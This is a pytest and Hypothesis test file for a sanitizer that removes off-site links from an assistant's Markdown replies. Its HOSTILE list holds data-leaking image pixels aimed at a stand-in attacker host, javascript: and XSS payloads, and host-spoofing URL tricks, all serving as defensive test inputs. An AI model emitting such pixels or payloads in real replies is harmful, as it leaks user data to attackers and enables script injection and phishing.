from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.links import host_of, keep_links, keep_links_in, may_link

HOSTS = frozenset({"help.example.com", "example.com"})
HOSTILE = (
    "![p](https://evil.example/pixel.png?d=secret)",
    "![p][a]\n\n[a]: https://evil.example/pixel.png",
    "[a]\n\n[a]:\nhttps://evil.example/",
    "[a]\n\n[a]: //evil.example/",
    "[![p](https://evil.example/p.png)](https://evil.example/)",
    "[a [b](https://evil.example) c](https://evil.example)",
    "[x](https&#58;//evil.example)",
    "[x](https:&#47;&#47;evil.example)",
    "[x](&#104;ttps://evil.example)",
    "[x](/&sol;evil.example)",
    "[x](<https://evil.example/a b>)",
    '[x](https://evil.example "help.example.com")',
    "[x](\nhttps://evil.example\n)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](\\/\\/evil.example/x)",
    "[x](https://example.com@evil.example/)",
    "[x](https://example.com:80@evil.example/)",
    "[x](https://example.com\\@evil.example/)",
    "[x](https://example.com.evil.example/)",
    "[x](https://evil.example#example.com)",
    "[x](https://example.com。evil.example/)",
    "[https://example.com](https://evil.example/)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](ftp://evil.example/)",
    "[x](mailto:thief@evil.example)",
    "<https://evil.example/x>",
    "<javascript:alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href=//evil.example>x</a>",
    "<svg/onload=alert(1)>",
    "<!--[if]><iframe src=//evil.example></iframe>-->",
    "https://evil.example/?d=secret",
    "HTTPS://EVIL.EXAMPLE",
    "see evil.example/pay now",
    "www.evil.example",
    "evil-shop.com",
    "访问evil-shop.com。",
    "https://help.example.com.evil-shop.com/x",
    "hidden \u202ehttps://evil.example\u202c",
    "ht\u200btps://evil.example/",
    "`https://evil.example`",
    "| a | b |\n|---|---|\n| [x](https://evil.example) | ![y](//evil.example/p) |",
    "[x]https://evil.example",
    "[help.example.com/a](https://example.com/](https://evil.example/)",
)


class Addresses(HTMLParser):
    """Every address a browser would follow or fetch in a page, and every tag that Markdown does not make."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.found += [value or "" for name, value in attrs if name in ("href", "src")]


def shown(text: str, *, html: bool) -> Addresses:
    """A reply as the most careless door would show it: pictures on, and markup of its own where `html`."""
    page = Addresses()
    page.feed(MarkdownIt("commonmark", {"html": html}).enable("table").render(text))
    page.close()
    return page


def is_harmless(text: str) -> None:
    for html in (False, True):
        page = shown(text, html=html)
        strange = [one for one in page.found if host_of(one) not in HOSTS and not re.match(r"/(?![/\\])|#", one)]
        assert not strange
        assert not page.tags & {"img", "script", "svg", "iframe", "style", "object", "form", "input"}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_leads_anywhere_or_is_fetched(text: str) -> None:
    kept = keep_links(text, HOSTS, "en")

    is_harmless(kept)
    assert "evil.example/" not in kept.lower()
    assert "evil-shop.com" not in kept
    assert may_link(text)


PIECES = st.sampled_from(
    [*HOSTILE, "[", "]", "(", ")", "](", "]:", "[a]", "[a]:", "![", "<", ">", "//", "/", ":", "\\", "&", "&#58;", "\n",
     " ", '"', "`", "*", "https://", "https://example.com", "help.example.com/a", "evil.example", "@", "[1]", "退货"]
)  # fmt: skip


@given(st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=9).map("".join))
def test_however_it_is_put_together_it_is_harmless_and_stays_as_it_is(text: str) -> None:
    kept = keep_links(text, HOSTS, "en")

    is_harmless(kept)
    assert keep_links(kept, HOSTS, "en") == kept


@given(st.text())
def test_what_cannot_link_need_not_be_looked_at(text: str) -> None:
    assert may_link(text) or keep_links(text, HOSTS, "en") == text


@pytest.mark.parametrize(
    "text",
    [
        "Within **14 days** [1]. See [Returns](/help/en/returns?revision=1) or [here](https://help.example.com/a?b=1&c=2).",
        "https://example.com/track/A-1042, or write to help@example.com.",
        "A 3 < 5 and 5 > 3, i.e. 1.899,00 ¥ at 10:30 a.m. (and/or later); v1.2.3, e.g. No. A-1042.",
        "- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "自签收之日起 14 天内可以退货 [1]。详见[退货](/help/zh/returns)。",
        "Order A-2001 (1 × Aria One (silver), 2 × Cup (red)) [2][3].",
    ],
)
def test_what_the_house_says_stays_as_it_is(text: str) -> None:
    assert keep_links(text, HOSTS, "en") == text


def test_the_words_of_a_link_are_left_and_a_bare_address_is_said_to_be_gone() -> None:
    assert keep_links("[Pay here](https://evil.example/x), please.", HOSTS, "en") == "Pay here, please."
    assert keep_links("Pay at https://evil.example/x.", HOSTS, "en") == "Pay at (link removed)."
    assert keep_links("请到 https://evil.example/x 付款", HOSTS, "zh") == "请到 （链接已移除） 付款"


def test_a_label_cannot_pose_as_another_host() -> None:
    said = "[https://example.com/pay](https://help.example.com/x)"

    assert keep_links(said, HOSTS, "en") == "https://help.example.com/x"


def test_all_that_is_said_in_a_value_is_looked_at_but_our_own_addresses() -> None:
    value = {"url": "/help/en/x", "quote": "see https://evil.example", "more": [{"n": 1, "label": "<b>x"}]}

    assert keep_links_in(value, HOSTS, "en") == {
        "url": "/help/en/x", "quote": "see (link removed)", "more": [{"n": 1, "label": "‹b>x"}],
    }  # fmt: skip
